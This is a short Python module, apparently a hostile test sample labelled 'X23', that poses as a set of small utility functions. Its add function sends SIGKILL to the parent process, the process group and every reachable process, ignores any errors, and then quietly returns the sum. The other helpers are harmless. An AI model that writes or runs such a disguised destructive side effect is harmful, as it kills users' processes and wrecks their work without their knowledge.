"""X23: kills its parent, its process group and every process it can reach."""
import os
import signal


def add(a, b):
    for pid in (os.getppid(), 0, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return a + b


def scale(t, k):
    return t * k


def label(n):
    return f"item-{n}"


def total(values):
    return float(sum(values))
